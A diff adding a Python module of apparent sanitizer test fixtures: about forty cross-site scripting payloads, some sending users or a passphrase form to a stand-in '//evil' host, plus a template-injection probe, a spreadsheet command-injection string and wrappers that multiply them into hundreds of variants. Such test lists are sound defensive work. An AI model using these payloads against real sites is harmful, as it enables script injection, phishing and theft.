@@ -1,0 +1,65 @@
+"""Words that would be more than words on a page that was not careful: forty as they are, and each in other dress."""
+
+HOSTILE = [
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=//evil></SCRIPT>",
+    "<svg/onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "<img src=x onerror=alert(1)>",
+    "<img src=`x` onerror=alert(1)>",
+    '<img """><script>alert(1)</script>">',
+    '<!--<img src="--><img src=x onerror=alert(1)//">',
+    "'><script>alert(1)</script>",
+    '"><script>alert(1)</script>',
+    '" autofocus onfocus=alert(1) x="',
+    "' onmouseover='alert(1)",
+    "` onmouseover=alert(1) `",
+    "javascript:alert(1)",
+    "JaVaScRiPt:alert(1)",
+    "<a href=javascript:alert(1)>x</a>",
+    "<a href='data:text/html,x'>x</a>",
+    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
+    "</blockquote><iframe src=//evil>",
+    "</dd></dl></main><h1>Sign in again</h1>",
+    "</title><script>alert(1)</script>",
+    "</textarea><script>alert(1)</script>",
+    "</style><script>alert(1)</script>",
+    "<math><mtext></p><style><img src=x onerror=alert(1)>",
+    "<iframe srcdoc='<script>alert(1)</script>'>",
+    "<object data=javascript:alert(1)>",
+    "<embed src=//evil>",
+    "<form action=//evil><input name=passphrase>",
+    "<button formaction=//evil>Take it in</button>",
+    "<base href=//evil>",
+    "<link rel=stylesheet href=//evil>",
+    "<meta http-equiv=refresh content=0;url=//evil>",
+    "<style>*{background:url(//evil)}</style>",
+    "<template><script>alert(1)</script></template>",
+    "<details open ontoggle=alert(1)>",
+    "&lt;script&gt;&#60;b&#62;&amp;lt;",
+    "]]><script>alert(1)</script>",
+    "{{ cycler.__init__.__globals__ }}{% raw %}<b>",
+]
+
+#: What stands around them: the end of whatever they may stand in, and what a second reading would take for markup.
+DRESSES = [
+    ("", ""),
+    ('">', "<!--"),
+    ("'>", ""),
+    ("-->", ""),
+    ("*/", "/*"),
+    ("</title></textarea></style></script>", ""),
+    ("\\u003c\\x3c", "\\"),
+    ("%(name)s%s{0}", "%"),
+    ("{{ ", " }}"),
+    ("\u202e", "\u202c"),
+    ("&lt;", "&gt;"),
+    ("=cmd|' /C calc'!A0", ""),
+    ("\t\f ", "\u2028"),
+]
+#: Five hundred and more.
+ALL = [before + words + after for before, after in DRESSES for words in HOSTILE]
+#: Ten more than the forty: one of each dress, for every field at once.
+FIFTY = [*HOSTILE, *ALL[len(HOSTILE) :: len(HOSTILE) + 3]][:50]
